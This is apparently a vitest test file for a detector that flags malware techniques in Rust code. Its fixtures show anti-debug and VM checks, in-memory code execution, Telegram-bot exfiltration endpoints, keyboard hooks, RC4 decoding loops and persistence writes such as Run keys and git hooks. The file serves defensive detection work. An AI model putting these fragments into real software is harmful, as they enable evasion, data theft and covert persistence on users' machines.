import { describe, expect, it } from 'vitest';
import { analyzeRust } from './code-signals.js';
import { rc4 } from './decoders.js';
import type { Signal, SignalKind } from './code-signals.js';
import { extractRustFacts } from './rust-facts.js';
import { rustParser } from './rust-parser.js';

async function signals(src: string): Promise<Signal[]> {
  return analyzeRust(extractRustFacts(await rustParser(), src)).signals;
}
async function details(src: string, kind: SignalKind): Promise<string[]> {
  return (await signals(src)).filter((s) => s.kind === kind).map((s) => s.detail ?? '');
}

describe('technique signals: evasion', () => {
  it('sees tracer, debugger, VM, date, sleep, hardware and locale gates', async () => {
    const src = `
fn gate() {
    let s = std::fs::read_to_string("/proc/self/status").unwrap();
    if !s.contains("TracerPid:\\t0") { return; }
    unsafe { libc::ptrace(libc::PTRACE_TRACEME, 0, 0, 0); }
    let v = std::fs::read_to_string("/sys/class/dmi/id/sys_vendor").unwrap();
    if v.trim() == "QEMU" { return; }
    if num_cpus::get() < 2 { return; }
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    if now < 1767225600 { return; }
    std::thread::sleep(std::time::Duration::from_secs(60 * 20));
}
fn lang() -> bool { let l = unsafe { GetUserDefaultLangID() }; l == 0x0419 }`;
    const d = await details(src, 'evasion');
    for (const k of ['tracer', 'debugger', 'vm', 'hardware', 'date', 'sleep', 'locale'])
      expect(d).toContain(k);
  });

  it('ignores ordinary thread sizing, short sleeps and timestamps not compared with now', async () => {
    const src = `
fn pool() -> usize { let n = num_cpus::get(); n.max(1) }
fn backoff() { std::thread::sleep(std::time::Duration::from_millis(250)); }
const EPOCH_2020: u64 = 1577836800;
fn is_ru(s: &str) -> bool { s == "ru" }`;
    expect(await details(src, 'evasion')).toEqual([]);
  });
});

describe('technique signals: code from memory', () => {
  it('sees memfd, PROT_EXEC mappings, VirtualAlloc and a buffer cast to a fn pointer', async () => {
    const src = `
unsafe fn run(buf: &[u8]) {
    let fd = libc::memfd_create(b"x\\0".as_ptr() as _, 0);
    libc::fexecve(fd, std::ptr::null(), std::ptr::null());
    let p = libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_EXEC, libc::MAP_PRIVATE, -1, 0);
    let q = VirtualAlloc(std::ptr::null_mut(), 4096, MEM_COMMIT, PAGE_EXECUTE_READWRITE);
    let f: extern "C" fn() = std::mem::transmute(buf.as_ptr());
    f();
}`;
    const d = await details(src, 'exec-memory');
    expect(d).toEqual(expect.arrayContaining(['memfd', 'mmap-exec', 'virtualalloc', 'fn-transmute']));
    const memfd = (await signals(src)).find((s) => s.detail === 'memfd');
    expect(memfd?.evidence).toContain('fexecve');
  });

  it('ignores read-write mappings and dlsym symbols transmuted to fn pointers', async () => {
    const src = `
unsafe fn map() { libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_WRITE, libc::MAP_PRIVATE, -1, 0); }
unsafe fn sym(h: *mut c_void) { let f: extern "C" fn() = std::mem::transmute(libc::dlsym(h, c"init".as_ptr())); }`;
    // dlsym's argument has as_ptr, but the symbol it returns is not a buffer.
    expect(await details(src, 'exec-memory')).toEqual([]);
  });
});

describe('technique signals: static constructors', () => {
  it('names the function an .init_array / .CRT$XCU static or #[ctor] runs', async () => {
    const src = `
#[used]
#[link_section = ".init_array"]
static INIT: extern "C" fn() = boot;
extern "C" fn boot() {}
#[link_section = ".CRT$XCU"]
static WIN: unsafe extern "C" fn() = { unsafe extern "C" fn start() {} start };
#[ctor::ctor]
fn early() {}
#[used]
static KEEP: fn() = keep;
fn keep() {}`;
    const s = (await signals(src)).filter((x) => x.kind === 'static-ctor');
    expect(s.map((x) => [x.detail, x.target])).toEqual([
      ['init-array', 'boot'],
      ['crt-xcu', 'start'],
      ['ctor-attr', 'early'],
      ['used-static', 'keep'],
    ]);
  });

  it('ignores other link sections and #[used] data', async () => {
    const src = `
#[link_section = ".rodata.tables"]
static T: [u8; 4] = [1, 2, 3, 4];
#[used]
static VERSION: &str = "1.0";`;
    expect(await details(src, 'static-ctor')).toEqual([]);
  });
});

describe('technique signals: channels', () => {
  it('sees hand-built DNS, SMTP dialogues, messenger posts and JSON-RPC bodies', async () => {
    const src = `
fn dns(name: &str) {
    let s = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    let mut q = vec![0x13, 0x37, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00];
    for l in name.split('.') { q.push(l.len() as u8); q.extend_from_slice(l.as_bytes()); }
    q.extend_from_slice(&[0x00, 0x10, 0x00, 0x01]);
    s.send_to(&q, ("192.0.2.53", 53)).unwrap();
}
fn mail(s: &mut std::net::TcpStream) { use std::io::Write; s.write_all(b"EHLO x\\r\\n").unwrap(); let _ = "MAIL FROM:<a@b.example>"; }
fn bot(t: &str, body: String) {
    let url = format!("https://api.telegram.org/bot{}/sendMessage", t);
    let _ = reqwest::blocking::Client::new().post(url).body(body).send();
}
fn rpc() -> serde_json::Value { serde_json::json!({"jsonrpc": "2.0", "method": "eth_sendRawTransaction"}) }`;
    const d = await details(src, 'channel');
    expect(d).toEqual(expect.arrayContaining(['dns-raw', 'smtp', 'webhook', 'json-rpc']));
    expect(d.filter((x) => x === 'dns-raw').length).toBeGreaterThanOrEqual(3);
  });

  it('does not call HTTP over TcpStream or a UDP game client DNS', async () => {
    const src = `
fn get(s: &mut std::net::TcpStream) { use std::io::Write; let mut t = std::net::TcpStream::connect("example.org:80").unwrap(); t.write_all(b"x").unwrap(); let _ = "GET / HTTP/1.1"; }
fn game() { let s = std::net::UdpSocket::bind("0.0.0.0:0").unwrap(); s.send_to(b"ping", "203.0.113.9:27015").unwrap(); }`;
    const d = await details(src, 'channel');
    expect(d).not.toContain('dns-raw');
    expect(d).not.toContain('raw-tcp');
    expect(d).toContain('udp');
  });
});

describe('technique signals: clipboard, input, decode loops', () => {
  it('sees clipboard reads, keyboard hooks and /dev/input', async () => {
    const src = `
use arboard::Clipboard;
fn steal() -> String { let mut c = Clipboard::new().unwrap(); c.get_text().unwrap() }
fn copy(s: &str) { let mut c = Clipboard::new().unwrap(); c.set_text(s).unwrap(); }
fn hook() { unsafe { SetWindowsHookExW(WH_KEYBOARD_LL, Some(cb), 0, 0); } }
fn ev() { let f = std::fs::File::open("/dev/input/event3"); }
fn paste() { std::process::Command::new("pbpaste").output().unwrap(); }`;
    expect(await details(src, 'clipboard')).toEqual(expect.arrayContaining(['read', 'write']));
    expect((await details(src, 'clipboard')).filter((x) => x === 'read')).toHaveLength(2);
    expect(await details(src, 'input-capture')).toEqual(expect.arrayContaining(['hook', 'evdev']));
  });

  it('ignores a mouse-only hook and a struct field named get_text', async () => {
    const src = `
fn m() { unsafe { SetWindowsHookExW(WH_CALLWNDPROC, Some(cb), 0, 0); } }
fn t(w: &Widget) -> String { w.get_text() }`;
    expect(await details(src, 'clipboard')).toEqual([]);
    expect(await details(src, 'input-capture')).toEqual([]);
  });

  it('sees XOR, RC4-like and arithmetic decoding loops', async () => {
    const src = `
fn x(d: &[u8], k: &[u8]) -> Vec<u8> { d.iter().enumerate().map(|(i, b)| b ^ k[i % k.len()]).collect() }
fn rc4(key: &[u8], d: &mut [u8]) {
    let mut s: Vec<u8> = (0..=255).collect(); let mut j = 0usize;
    for i in 0..256 { j = (j + s[i] as usize + key[i % key.len()] as usize) % 256; s.swap(i, j); }
    for b in d.iter_mut() { *b ^= s[j]; }
}
fn a(d: &[u8]) -> String { d.iter().map(|b| b.wrapping_sub(3) as char).collect() }`;
    expect(await details(src, 'decode-routine')).toEqual(['xor', 'rc4', 'arith']);
  });

  it('feeds what an RC4 routine decodes back as decoded signals', async () => {
    const url = 'https://api.telegram.org/bot0000000000:FAKE_TOKEN_FOR_TESTS_ONLY/sendDocument';
    const enc = rc4(Buffer.from('s3cr3t'), Buffer.from(url));
    const src = `static KEY: &[u8] = b"s3cr3t";
static BLOB: [u8; ${enc.length}] = [${[...enc].join(', ')}];
fn dec(d: &[u8], key: &[u8]) -> String {
    let mut s: Vec<u8> = (0..=255).collect(); let mut j = 0usize;
    for i in 0..256 { j = (j + s[i] as usize + key[i % key.len()] as usize) % 256; s.swap(i, j); }
    String::from_utf8(d.iter().map(|b| b ^ s[j]).collect()).unwrap()
}`;
    const sigs = await signals(src);
    expect(sigs.some((x) => x.kind === 'decode-routine' && x.detail === 'rc4')).toBe(true);
    const ep = sigs.find((x) => x.kind === 'endpoint' && x.decoded);
    expect(ep?.detail).toBe('messenger');
    expect(sigs.some((x) => x.kind === 'obfuscated' && x.detail === 'bytes+rc4')).toBe(true);
  });

  it('does not call a checksum a decoder', async () => {
    const src = `fn crc(d: &[u8]) -> u32 { let mut c = 0u32; for b in d { c = c.rotate_left(5) ^ (*b as u32); } c }`;
    expect(await details(src, 'decode-routine')).toEqual([]);
  });
});

describe('technique signals: persistence beyond the classic places', () => {
  it('sees hooks, cargo config, Run keys from fragments and timers being written', async () => {
    const src = `
fn hooks(repo: &std::path::Path) { std::fs::write(repo.join(".git").join("hooks").join("post-checkout"), "#!/bin/sh").unwrap(); }
fn cfg(home: &std::path::Path) { std::fs::write(home.join(".cargo").join("config.toml"), "[source.crates-io]\\nreplace-with = 'm'").unwrap(); }
unsafe fn run() {
    let k = concat!("Software\\\\Microsoft\\\\Windows\\\\", "CurrentVersion\\\\Run");
    RegCreateKeyExW(HKEY_CURRENT_USER, k.as_ptr(), 0, null(), 0, KEY_WRITE, null(), &mut h, null_mut());
    RegSetValueExW(h, name.as_ptr(), 0, REG_SZ, data.as_ptr(), len);
}
fn timer(home: &std::path::Path) { std::fs::write(home.join(".config/systemd/user/update.timer"), "[Timer]\\nOnCalendar=hourly").unwrap(); }
fn auto(home: &std::path::Path) { std::fs::write(home.join(".config/autostart/x.desktop"), "[Desktop Entry]").unwrap(); }`;
    const d = await details(src, 'persistence-write');
    expect(d).toEqual(
      expect.arrayContaining([
        'vcs-hook',
        'cargo-config',
        'windows-run-key',
        'systemd-timer',
        'xdg-autostart',
      ]),
    );
  });

  it('sees a Run key opened in two steps through raw FFI', async () => {
    const src = `unsafe fn p() {
    RegOpenKeyExW(HKEY_CURRENT_USER, w("Software\\\\Microsoft\\\\Windows\\\\CurrentVersion"), 0, KEY_ALL_ACCESS, &mut base);
    RegCreateKeyExW(base, w("Run"), 0, null_mut(), 0, KEY_WRITE, null_mut(), &mut run, null_mut());
    RegSetValueExW(run, w("updater"), 0, REG_SZ, exe.as_ptr() as *const u8, len);
}`;
    expect(await details(src, 'persistence-write')).toContain('windows-run-key');
    expect(await details(src.replace(/RegSetValueExW/, 'RegQueryValueExW'), 'persistence-write')).toEqual([]);
  });

  it('does not count reading cargo config, or writing hooks under OUT_DIR', async () => {
    const src = `
fn read(home: &std::path::Path) -> String { let p = home.join(".cargo").join("config.toml"); let s = std::fs::read_to_string(&p).unwrap(); std::process::Command::new("cargo").arg("metadata").status().unwrap(); s }
fn build() { let out = std::env::var("OUT_DIR").unwrap(); std::fs::write(std::path::Path::new(&out).join("hooks").join("pre-commit"), "x").unwrap(); }`;
    const d = await details(src, 'persistence-write');
    expect(d).not.toContain('cargo-config');
    expect(d).not.toContain('vcs-hook');
  });
});
